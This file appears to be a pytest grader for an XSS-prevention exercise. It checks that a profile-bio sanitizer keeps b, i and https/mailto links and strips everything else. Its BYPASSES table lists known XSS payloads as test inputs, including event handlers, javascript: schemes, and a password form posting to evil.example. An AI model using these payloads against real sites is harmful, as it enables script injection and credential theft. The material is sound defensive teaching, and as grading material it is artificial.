"""Acceptance check: the bio keeps its formatting and links, and no bypass leaves a tag, attribute or link scheme
outside the allow-list; the output is read back as a browser reads it."""

from __future__ import annotations

import html
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from exercises import load_module
from exercises.security.xss_prevention.support import parse

ALLOWED = {"b", "i", "a"}
# Known ways past a sanitizer that looks for bad things instead of keeping good ones.
BYPASSES = {
    "nested script": "<scr<script>x</script>ipt>alert(1)</scr<script>x</script>ipt>",
    "event handler": '<b onclick="alert(1)">hi</b>',
    "image error": "<img src=x onerror=alert(1)>",
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "javascript link": '<a href="javascript:alert(1)">site</a>',
    "encoded scheme": '<a href="jav&#x61;script:alert(1)">site</a>',
    "tab in scheme": '<a href="java&#9;script:alert(1)">site</a>',
    "upper case": '<A HREF="JAVASCRIPT:alert(1)">site</A>',
    "data url": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">site</a>',
    "iframe": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "unclosed script": "<script>alert(1)",
    "end tag with junk": "<script>alert(1)</script foo>",
    "form": '<form action="https://evil.example"><input name=password></form>',
}


def sanitize(answer: Path, bio: str) -> str:
    result = load_module(answer).sanitize_bio(bio)
    assert isinstance(result, str)
    return result


def assert_only_allowed(output: str) -> None:
    page = parse(output)
    for element in page.elements:
        assert element.tag in ALLOWED, f"<{element.tag}> got through: {output!r}"
        for name, value in element.attrs.items():
            assert element.tag == "a" and name in {"href", "rel"}, f"{name}= on <{element.tag}>: {output!r}"
            if name == "href":
                assert urlsplit(value or "").scheme in {"http", "https", "mailto"}, f"href={value!r}: {output!r}"
    # Whatever the parser did not read as an allowed tag must not be markup for a browser either.
    leftover = re.sub(r"</?(?:b|i)>|<a(?:\s+(?:href|rel)=\"[^\"<>]*\")*\s*>|</a>", "", output)
    assert "<" not in leftover, f"unescaped < outside the allowed tags: {output!r}"


@pytest.mark.starter_passes
def test_formatting_and_links_survive(answer: Path) -> None:
    bio = 'I build <b>lamps</b> and <i>desks</i>. See <a href="https://example.com/shop?a=1&amp;b=2">my shop</a>.'
    page = parse(sanitize(answer, bio))
    assert [element.tag for element in page.elements] == ["b", "i", "a"]
    assert page.all("b")[0].text == "lamps" and page.all("i")[0].text == "desks"
    assert page.all("a")[0].attrs["href"] == "https://example.com/shop?a=1&b=2"
    assert page.all("a")[0].text == "my shop"


@pytest.mark.starter_passes
def test_mail_links_survive(answer: Path) -> None:
    page = parse(sanitize(answer, '<a href="mailto:ada@example.com">mail me</a>'))
    assert page.all("a")[0].attrs["href"] == "mailto:ada@example.com"


@pytest.mark.parametrize("name", BYPASSES)
def test_a_bypass_leaves_nothing_outside_the_allow_list(answer: Path, name: str) -> None:
    assert_only_allowed(sanitize(answer, BYPASSES[name]))


def test_text_is_text(answer: Path) -> None:
    output = sanitize(answer, "3 < 5 & 5 > 3, <b>ok</b> <!-- a comment --> <notatag>")
    assert_only_allowed(output)
    text = html.unescape(re.sub(r"<[^>]*>", "", output))
    assert "3 < 5 & 5 > 3" in text, f"text should be shown as written: {output!r}"
    assert "a comment" not in text, "comments are dropped"


def test_script_content_is_dropped_not_shown(answer: Path) -> None:
    output = sanitize(answer, "hello <script>stealCookies()</script><style>body{display:none}</style>world")
    assert "stealCookies" not in output and "display:none" not in output, output
    assert html.unescape(output).replace(" ", "") == "helloworld"
